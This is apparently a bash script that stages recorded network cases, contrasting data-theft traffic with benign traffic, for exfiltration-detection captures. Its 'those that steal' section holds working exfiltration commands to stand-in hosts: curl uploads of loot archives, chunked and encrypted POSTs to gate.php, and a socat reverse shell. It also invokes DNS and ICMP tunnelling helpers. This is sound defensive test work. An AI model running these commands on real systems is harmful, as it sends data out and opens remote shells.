# shellcheck shell=bash
# The recorded cases: for each the servers (`serve_*`, inside the server's namespace) and what the victim runs
# (`act_*`, inside the victim's). Both run in $WORK, a folder of their own. The case `a-b` has the functions `*_a_b`.

# shellcheck disable=SC2034
NAMES=(
    real-requests-zip real-curl-form real-smtplib-self real-ftplib-store real-raw-zip real-raw-tar-v6 real-tls-beat
    real-tls-beat-snapped real-json-zip real-dns-txt real-poll-form real-tar-curl real-shell
    real-curl-tls real-icmp-zip real-icmp-coded real-websocket-json real-split-posts real-opaque-post
    real-benign-curl-upload real-benign-mail real-benign-ftp real-benign-telemetry real-benign-mqtt real-benign-scp
    real-benign-apt real-benign-iperf real-benign-websocket real-benign-photo real-benign-ntp real-benign-syslog
    real-benign-git real-benign-logs real-benign-crash real-benign-dyndns real-benign-swaks
    real-benign-redis real-benign-rsync real-benign-printer real-benign-camera real-benign-inventory real-benign-ping
)
# Ports to wait for before the victim starts, besides that of the name server.
declare -A PORTS=(
    [real-requests-zip]=80 [real-curl-form]=80 [real-smtplib-self]=587 [real-ftplib-store]=21 [real-raw-zip]=7712
    [real-raw-tar-v6]=15647 [real-tls-beat]=6606 [real-tls-beat-snapped]=8848 [real-json-zip]=80 [real-poll-form]=80
    [real-tar-curl]=8000 [real-shell]=4444 [real-curl-tls]=8443 [real-websocket-json]=8081 [real-split-posts]=80
    [real-opaque-post]=80
    [real-benign-curl-upload]=443 [real-benign-mail]=587 [real-benign-ftp]=21 [real-benign-telemetry]=80
    [real-benign-mqtt]=1883 [real-benign-scp]=22 [real-benign-apt]=80 [real-benign-iperf]=5201
    [real-benign-websocket]=8080 [real-benign-photo]=80 [real-benign-ntp]=123 [real-benign-syslog]=514
    [real-benign-git]=9418 [real-benign-logs]=9020 [real-benign-crash]=80 [real-benign-dyndns]=80 [real-benign-swaks]=25
    [real-benign-redis]=6379 [real-benign-rsync]=873 [real-benign-printer]=9100 [real-benign-camera]=21
    [real-benign-inventory]=80
)
# Options of tcpdump other than those of all.
declare -A DUMP=(
    [real-tls-beat-snapped]="-i any -s 200"
    [real-raw-tar-v6]="-i any -s 0"
    [real-poll-form]="-i any -s 0 --time-stamp-precision=nano"
    [real-benign-iperf]="-i any -s 128"
    [real-benign-scp]="-i any -s 0 --time-stamp-precision=nano"
)
# Cases whose capture shows segments as the sending host hands them to the card.
OFFLOADED="real-curl-form real-benign-photo real-benign-apt"

# The Python that has aiosmtpd, pyftpdlib, requests and websockets.
PYTHON=${PYTHON:-python3}
PYTHON=$(command -v "$PYTHON")
# Not even as a link in the namespace: nobody's settings are to show in a capture.
export HOME=${WORK:-/nonexistent} LC_ALL=C PYTHONDONTWRITEBYTECODE=1
HELP=${BASH_SOURCE[0]%/*}

py() { "$PYTHON" "$HELP/$@"; }

# keep CASE RAW FOLDER: puts the capture there in its form.
keep() {
    case $1 in
        real-json-zip | real-benign-mqtt) editcap -F pcapng "$2" "$3/capture.pcapng" ;;
        real-tar-curl | real-benign-websocket) editcap -F pcapng "$2" "$2.ng" && gzip -9nc "$2.ng" >"$3/capture.pcapng.gz" ;;
        real-dns-txt) gzip -9nc "$2" >"$3/capture.pcap.gz" ;;
        *) cp "$2" "$3/capture.pcap" ;;
    esac
}

# The name server: what is below .example is where the table says. It passes on what is below relay.example.
names() {
    [[ -e $WORK/no-names ]] && return
    local table=(
        ip.lookup.example=198.51.100.21 drop.example=203.0.113.43 static.example=203.0.113.47
        inventory.office.example=192.0.2.1 office.example=198.51.100.30 vendor.example=198.51.100.40 mirror.example=198.51.100.50 perf.example=198.51.100.60
    ) line args=()
    for line in "${table[@]}"; do args+=("--address=/${line%=*}/${line#*=}"); done
    exec dnsmasq --conf-file=/dev/null --no-daemon --user=root --pid-file= --no-resolv --no-hosts --bind-interfaces \
        --listen-address=192.0.2.1 "${args[@]}" --server=/relay.example/203.0.113.48 --address=/#/
}

# A certificate of its own making for anything: bare SUBJECT
bare() {
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "$1" -keyout key.pem -out bare.pem 2>/dev/null
    cat key.pem >>bare.pem
}

# A certificate for a name by the organisation's own authority: issued NAME
issued() {
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/O=Example Ltd/CN=Example Ltd Internal CA" \
        -keyout ca.key -out ca.pem 2>/dev/null
    openssl req -newkey rsa:2048 -nodes -subj "/O=Example Ltd/CN=$1" -keyout name.key -out name.csr 2>/dev/null
    openssl x509 -req -in name.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 397 -out name.crt \
        -extfile <(echo "subjectAltName=DNS:$1") 2>/dev/null
    cat name.crt ca.pem name.key >name.pem
}

# ---- those that steal

serve_real_requests_zip() { py serve.py web 80; }
act_real_requests_zip() { py act.py grab; }

# The server is busy twice.
serve_real_curl_form() { py serve.py web 80 "" 2; }
act_real_curl_form() {
    py loot.py zip >out.zip
    curl -s --retry 3 --retry-delay 2 -H "user: erika" -F "file=@out.zip" -F "build=b1" http://203.0.113.42/contact
}

serve_real_smtplib_self() { py serve.py mail 587; }
act_real_smtplib_self() { py act.py report_mail; }

serve_real_ftplib_store() { mkdir ftp && py serve.py files 21 ftp; }
act_real_ftplib_store() { py act.py store; }

serve_real_raw_zip() { py serve.py framed 7712; }
act_real_raw_zip() { py act.py raw 203.0.113.45 7712 zip; }

serve_real_raw_tar_v6() { py serve.py framed 15647; }
act_real_raw_tar_v6() { py act.py raw 2001:db8:80::45 15647 tar; }

serve_real_tls_beat() { bare "/CN=Server" && py serve.py secret 6606 bare.pem; }
act_real_tls_beat() { py act.py secret 203.0.113.46 6606 100000; }

serve_real_tls_beat_snapped() { bare "/CN=localhost" && py serve.py secret 8848 bare.pem; }
act_real_tls_beat_snapped() { py act.py secret 203.0.113.56 8848 300000; }

serve_real_json_zip() { py serve.py web 80; }
act_real_json_zip() { py act.py as_json; }

serve_real_dns_txt() { py serve.py tunnel 203.0.113.48; }
act_real_dns_txt() { py act.py name_tunnel; }

serve_real_poll_form() { py serve.py web 80; }
act_real_poll_form() { py act.py poll 203.0.113.49; }

serve_real_tar_curl() { py serve.py web 8000; }
act_real_tar_curl() { py loot.py tar | curl -s -T - http://203.0.113.50:8000/; }

serve_real_shell() { py serve.py shell 4444; }
act_real_shell() {
    echo "mail: erika, example-password" >notes.txt
    socat TCP:203.0.113.51:4444 EXEC:/bin/sh,stderr || true
}

# TLS 1.2, so that the certificate is in the open.
serve_real_curl_tls() { bare "/CN=localhost" && py serve.py web 8443 bare.pem; }
act_real_curl_tls() {
    py loot.py zip >out.zip
    curl -sk --tls-max 1.2 -F "file=@out.zip" -F "more=@out.zip" https://203.0.113.57:8443/u
}

# The kernel answers.
serve_real_icmp_zip() { sleep 60; }
act_real_icmp_zip() { py act.py echo 203.0.113.58 zip; }

serve_real_icmp_coded() { sleep 60; }
act_real_icmp_coded() { py act.py echo 203.0.113.61 coded; }

serve_real_websocket_json() { py serve.py chat 8081; }
act_real_websocket_json() { py act.py socket_loot ws://203.0.113.52:8081/ws; }

serve_real_split_posts() { py serve.py web 80; }
act_real_split_posts() {
    py loot.py zip >out.zip
    split -b 8k out.zip part.
    local part
    for part in part.*; do
        curl -s --data-binary "@$part" -H "Content-Type: application/octet-stream" "http://203.0.113.59/p?id=0123&n=$part"
    done
}

serve_real_opaque_post() { py serve.py web 80; }
act_real_opaque_post() {
    py loot.py zip | openssl enc -aes-256-ctr -pass pass:invented -nosalt -pbkdf2 >out.bin
    curl -s -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" --data-binary @out.bin http://203.0.113.60/gate.php
}

# ---- those that do not

serve_real_benign_curl_upload() { issued artifacts.office.example && py serve.py web 443 name.pem; }
act_real_benign_curl_upload() {
    head -c 60000 /dev/urandom >program && tar czf build.tar.gz program
    curl -sS --cacert ca.pem -u ci:example-password -T build.tar.gz https://artifacts.office.example/builds/build.tar.gz
}

serve_real_benign_mail() { issued mail.office.example && py serve.py mail 587 name.pem; }
act_real_benign_mail() { py act.py letter; }

serve_real_benign_ftp() {
    mkdir -p ftp/reports && yes "2030-01-01,10" | head -n 500 >ftp/reports/january.csv && py serve.py files 21 ftp
}
act_real_benign_ftp() { py act.py session; }

serve_real_benign_telemetry() { py serve.py web 80; }
act_real_benign_telemetry() { py act.py telemetry; }

serve_real_benign_mqtt() {
    printf 'listener 1883\nallow_anonymous true\n' >broker.conf && exec mosquitto -c broker.conf
}
act_real_benign_mqtt() {
    timeout 65 mosquitto_sub -h broker.vendor.example -k 5 -i example-hub -t home/light &
    local n
    for n in 1 2 3; do
        sleep 7
        mosquitto_pub -h broker.vendor.example -i "example-switch-$n" -t home/light -m '{"state":"on"}'
    done
    wait || true
}

serve_real_benign_scp() {
    ssh-keygen -q -t ed25519 -N "" -C "" -f host && ssh-keygen -q -t ed25519 -N "" -C "" -f user
    mkdir -p /run/sshd
    exec "$(command -v sshd || echo /usr/sbin/sshd)" -D -e -f /dev/null -p 22 -h "$WORK/host" -o UsePAM=no -o StrictModes=no \
        -o PermitRootLogin=prohibit-password -o AuthorizedKeysFile="$WORK/user.pub" -o PidFile=none -o PrintLastLog=no \
        -o Subsystem="sftp internal-sftp"
}
act_real_benign_scp() {
    local options=(-i user -o StrictHostKeyChecking=no -o UserKnownHostsFile=known -o BatchMode=yes)
    head -c 100000 /dev/urandom >data.bin
    mkdir -p there
    timeout 30 ssh -F /dev/null "${options[@]}" root@login.office.example 'echo one; sleep 2; echo two'
    timeout 30 scp -F /dev/null "${options[@]}" data.bin "root@login.office.example:$WORK/there/"
}

serve_real_benign_apt() {
    mkdir -p web/debian/pool package/DEBIAN package/usr/share/example
    printf 'Package: example-tool\nVersion: 1.0\nArchitecture: all\nMaintainer: Erika <erika@mirror.example>\nDescription: a tool\n' \
        >package/DEBIAN/control
    head -c 30000 /dev/urandom >package/usr/share/example/data
    dpkg-deb -b package web/debian/pool/example-tool_1.0_all.deb
    {
        cat package/DEBIAN/control
        echo "Filename: pool/example-tool_1.0_all.deb"
        echo "Size: $(stat -c %s web/debian/pool/example-tool_1.0_all.deb)"
        echo "SHA256: $(sha256sum web/debian/pool/example-tool_1.0_all.deb | cut -d ' ' -f 1)"
    } >web/debian/Packages
    head -c 20000 /dev/urandom >web/manual.bin
    cd web && exec "$PYTHON" -m http.server 80
}
act_real_benign_apt() {
    wget -q http://download.mirror.example/manual.bin
    mkdir -p apt/{lists,cache,etc,state} && touch apt/status
    echo "deb [trusted=yes] http://deb.mirror.example/debian ./" >apt/etc/sources.list
    local options=(-q -o Dir::Etc="$PWD/apt/etc" -o Dir::State="$PWD/apt/state" -o Dir::State::lists="$PWD/apt/lists"
        -o Dir::State::status="$PWD/apt/status" -o Dir::Cache="$PWD/apt/cache" -o APT::Sandbox::User=root
        -o Acquire::Languages=none -o Acquire::http::Proxy=false)
    APT_CONFIG=/dev/null apt-get "${options[@]}" update && APT_CONFIG=/dev/null apt-get "${options[@]}" download example-tool
}

serve_real_benign_iperf() { exec iperf3 -s; }
act_real_benign_iperf() { iperf3 -c speed.perf.example -n 700K; }

serve_real_benign_websocket() { py serve.py chat 8080; }
act_real_benign_websocket() { py act.py talk; }

serve_real_benign_photo() { py serve.py web 80; }
act_real_benign_photo() {
    py loot.py picture >holiday.jpg
    local browser=(-sS -b jar -c jar -A "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
        -H "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" -H "Accept-Language: de,en;q=0.5"
        -H "Upgrade-Insecure-Requests: 1" --compressed)
    local site=http://photos.vendor.example
    curl "${browser[@]}" $site/
    sleep 3
    curl "${browser[@]}" -L -e $site/ --data-urlencode user=erika --data-urlencode password=example-password $site/login
    sleep 5
    curl "${browser[@]}" -e $site/ -F "photo=@holiday.jpg;type=image/jpeg" -F "title=Holiday" $site/album/upload
    curl "${browser[@]}" -e $site/ $site/album
}

serve_real_benign_ntp() {
    printf 'local stratum 8\nallow all\ncmdport 0\nbindcmdaddress /\npidfile %s\n' "$WORK/time.pid" >time.conf
    exec chronyd -x -d -u root -U -f time.conf
}
# -x on both sides: no clock is set.
act_real_benign_ntp() {
    printf 'server time.vendor.example minpoll 1 maxpoll 1\ncmdport 0\nport 0\npidfile %s\n' "$WORK/pid" >client.conf
    timeout 60 chronyd -x -d -u root -U -f client.conf || true
}

serve_real_benign_syslog() { exec socat -u UDP4-RECVFROM:514,fork /dev/null; }
act_real_benign_syslog() {
    local n
    for n in {1..25}; do
        logger --udp -n logs.office.example -P 514 -t example-service "heartbeat $n: queue empty, 0 errors"
        sleep 2
    done
}

serve_real_benign_git() {
    git init -q --bare there.git && git -C there.git config daemon.receivepack true
    exec git daemon --export-all --base-path="$WORK" --reuseaddr --enable=receive-pack
}
act_real_benign_git() {
    export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=Erika GIT_AUTHOR_EMAIL=erika@office.example \
        GIT_COMMITTER_NAME=Erika GIT_COMMITTER_EMAIL=erika@office.example
    timeout 20 git clone -q git://code.office.example/there.git here
    head -c 40000 /dev/urandom >here/data.bin
    git -C here add . && git -C here commit -qm "Add data" && timeout 20 git -C here push -q origin HEAD
}

serve_real_benign_logs() { py serve.py logs 9020; }
act_real_benign_logs() { py act.py ship_logs; }

serve_real_benign_crash() { py serve.py web 80; }
act_real_benign_crash() { py act.py crash; }

serve_real_benign_dyndns() { py serve.py web 80; }
act_real_benign_dyndns() {
    local n address
    for n in {1..8}; do
        address=$(curl -s http://ip.lookup.example/ip)
        curl -s -u erika:example-password "http://members.vendor.example/update?hostname=home.vendor.example&myip=$address"
        sleep 5
    done
}

serve_real_benign_swaks() { py serve.py mail 25; }
# A script of an administrator that tells how the backup went.
act_real_benign_swaks() {
    swaks --server mail.office.example --port 25 --helo backup.office.example --auth LOGIN \
        --auth-user backup@office.example --auth-password example-password --from backup@office.example \
        --to admin@office.example --header "Subject: Backup finished" --body "12 folders, 0 errors, 41 GB. See the log."
}

serve_real_benign_redis() { exec redis-server --port 6379 --bind 0.0.0.0 --protected-mode no --save "" --dir "$WORK"; }
act_real_benign_redis() {
    local n
    for n in {1..15}; do
        redis-cli -h cache.office.example SET "basket:$n" "{\"items\":$n}" EX 60
        redis-cli -h cache.office.example GET "basket:$n"
        sleep 1
    done
}

serve_real_benign_rsync() {
    mkdir there && printf 'use chroot = no\n[backup]\npath = %s/there\nread only = no\nuid = root\ngid = root\n' "$WORK" >rsync.conf
    exec rsync --daemon --no-detach --config=rsync.conf
}
act_real_benign_rsync() {
    mkdir documents
    local n
    for n in 1 2 3 4; do head -c 15000 /dev/urandom >"documents/letter$n.odt"; done
    rsync -a documents/ rsync://backup.office.example/backup/
}

# A printer in the own network that takes what comes.
serve_real_benign_printer() { exec socat -u TCP4-LISTEN:9100,fork OPEN:/dev/null; }
act_real_benign_printer() {
    { printf '\033%%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n%%PDF-1.7\n'; head -c 50000 /dev/urandom; } >job
    socat -u OPEN:job TCP:192.0.2.1:9100
}

# A camera that stores a picture now and then.
serve_real_benign_camera() { mkdir ftp && py serve.py files 21 ftp; }
act_real_benign_camera() {
    py loot.py picture >picture.jpg
    local n
    for n in 1 2 3; do
        curl -s -u erika:example-password -T picture.jpg "ftp://files.office.example/cam1_$(date +%Y%m%d_%H%M%S).jpg"
        sleep 5
    done
}

# The organisation's own inventory, in the own network.
serve_real_benign_inventory() { py serve.py web 80; }
act_real_benign_inventory() {
    {
        echo '<?xml version="1.0" encoding="UTF-8"?><REQUEST><CONTENT><HARDWARE><NAME>EXAMPLE-PC</NAME>'
        echo '<OSNAME>Windows 10 Pro</OSNAME><MEMORY>8192</MEMORY><USERID>erika</USERID></HARDWARE><SOFTWARES>'
        local n
        for n in {1..60}; do echo "<NAME>Program $n</NAME><VERSION>$n.0</VERSION>"; done
        echo '</SOFTWARES></CONTENT><QUERY>INVENTORY</QUERY></REQUEST>'
    } >inventory.xml
    curl -s -A "Example-Agent_v1.5" -H "Content-Type: application/xml" --data-binary @inventory.xml http://inventory.office.example/
}

serve_real_benign_ping() { sleep 60; }
act_real_benign_ping() {
    ping -c 20 -i 1 198.51.100.40
    ping -c 10 -i 0.5 -s 1400 198.51.100.40
}
